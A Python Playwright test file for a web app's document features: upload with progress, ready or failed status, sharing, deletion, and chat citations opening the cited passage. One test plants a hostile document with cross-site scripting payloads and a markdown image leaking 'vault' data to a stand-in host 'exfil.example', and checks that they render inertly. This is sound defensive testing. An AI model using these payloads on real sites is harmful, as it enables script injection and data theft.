"""Documents in the browser: several files uploaded with progress, status moving to ready
or failed (with the reason) without a reload, share and unshare, delete, a citation in chat
opening the cited passage, and a hostile document that renders as text."""

from __future__ import annotations

import asyncio

from playwright.async_api import FilePayload, Locator, expect

from tests.fakes.openai_server import FakeOpenAI
from tests.knowledge.test_documents_api import HANDBOOK
from tests.web.conftest import Web

HOSTILE = (
    "Security notes\n\nThe vault code rotates weekly. <script>window.__pwned='doc'</script> "
    "<img src=x onerror=\"window.__pwned='doc-img'\"> <svg onload=\"window.__pwned='doc-svg'\"></svg> "
    "[link](javascript:window.__pwned='doc-link') ![x](http://exfil.example/?q=vault)"
)


async def _upload(web: Web, *files: tuple[str, bytes]) -> None:
    await web.page.get_by_label("Upload", exact=True).set_input_files(
        [FilePayload(name=name, mimeType="text/plain", buffer=data) for name, data in files]
    )


def _row(web: Web, title: str) -> Locator:
    return web.page.get_by_role("row").filter(has_text=title)


async def test_upload_share_unshare_and_delete(web: Web) -> None:
    page = web.page
    await web.sign_in("docs-alice", next_path="/documents")
    await expect(page.get_by_label("Knowledge base")).to_contain_text("Personal")
    await _upload(web, ("handbook.txt", HANDBOOK.encode()), ("empty.txt", b"   \n"))
    uploads = page.get_by_role("list", name="Uploads")
    await expect(uploads.get_by_role("listitem")).to_have_count(2)
    await expect(
        uploads.get_by_role("progressbar", name="Upload progress of handbook.txt")
    ).to_have_attribute("value", "100")
    # processing → ready / failed, with no reload
    await expect(_row(web, "handbook.txt").get_by_text("ready", exact=True)).to_be_visible()
    failed = _row(web, "empty.txt")
    await expect(failed.get_by_text("failed", exact=True)).to_be_visible()
    await expect(failed).to_contain_text("document_empty")
    await web.check_page("documents")

    # share with bob, who then reads it; unshare, and he no longer does
    bob = await web.api.auth("docs-bob")
    row = _row(web, "handbook.txt")
    await row.get_by_text("Sharing").click()
    await row.get_by_label("Users").fill("docs-bob")
    await row.get_by_role("button", name="Share", exact=True).click()
    await expect(row).to_contain_text("Shared with: user:docs-bob")
    kbs = (await web.api.http.get("/api/v1/knowledge-bases", headers=bob)).json()["knowledge_bases"]
    shared_kb = next(kb for kb in kbs if not kb["personal"] and "docs-alice" in kb["name"])
    docs = (
        await web.api.http.get(f"/api/v1/knowledge-bases/{shared_kb['id']}/documents", headers=bob)
    ).json()["documents"]
    assert [d["filename"] for d in docs] == ["handbook.txt"]
    await row.get_by_label("Users").fill("docs-bob")
    await row.get_by_role("button", name="Unshare").click()
    await expect(row).to_contain_text("Not shared.")
    docs = (
        await web.api.http.get(f"/api/v1/knowledge-bases/{shared_kb['id']}/documents", headers=bob)
    ).json()
    assert docs.get("documents", []) == []

    await failed.get_by_role("button", name="Delete empty.txt").click()
    await expect(_row(web, "empty.txt")).to_have_count(0)
    assert not web.page_errors and not web.dialogs


async def test_a_citation_opens_the_cited_passage_and_hostile_text_stays_text(
    web: Web, llm: FakeOpenAI
) -> None:
    page = web.page
    await web.sign_in("docs-reader", next_path="/documents")
    await _upload(web, ("handbook.txt", HANDBOOK.encode()), ("security.txt", HOSTILE.encode()))
    await expect(_row(web, "handbook.txt").get_by_text("ready", exact=True)).to_be_visible()
    await expect(_row(web, "security.txt").get_by_text("ready", exact=True)).to_be_visible()

    await page.get_by_role("navigation", name="Main").get_by_role("link", name="Chat").click()
    await page.get_by_label("Message", exact=True).fill("How do I reset my password?")
    await page.get_by_role("button", name="Send").click()
    answer = page.get_by_role("log", name="Conversation").get_by_role("article", name="Assistant answer")
    sources = answer.get_by_role("region", name="Sources")
    await expect(sources.get_by_role("button", name="handbook")).to_be_visible()
    await sources.get_by_role("button", name="handbook").click()
    dialog = page.get_by_role("dialog", name="handbook")
    await expect(dialog.get_by_label("Cited passage")).to_contain_text("self-service portal")
    await web.check_page("citation")
    await dialog.get_by_role("button", name="Close").click()

    # the hostile document, cited, shows its markup as text and runs nothing
    await page.get_by_label("Message", exact=True).fill("What about the vault code in the security notes?")
    await page.get_by_role("button", name="Send").click()
    await expect(answer).to_have_count(2)
    await expect(page.get_by_role("status")).to_have_text("Answer complete.")
    hostile = answer.last.get_by_role("region", name="Sources").get_by_role("button", name="security")
    await hostile.click()
    dialog = page.get_by_role("dialog", name="security")
    await expect(dialog.get_by_label("Cited passage")).to_contain_text(
        "<script>window.__pwned='doc'</script>"
    )
    await asyncio.sleep(1)
    assert await page.evaluate("() => window.__pwned") is None
    assert not web.dialogs
    assert web.off_origin_requests() == []
    # "Open in Documents" lands on the document
    await dialog.get_by_role("link", name="Open in Documents").click()
    await expect(_row(web, "security.txt")).to_have_class("highlight")
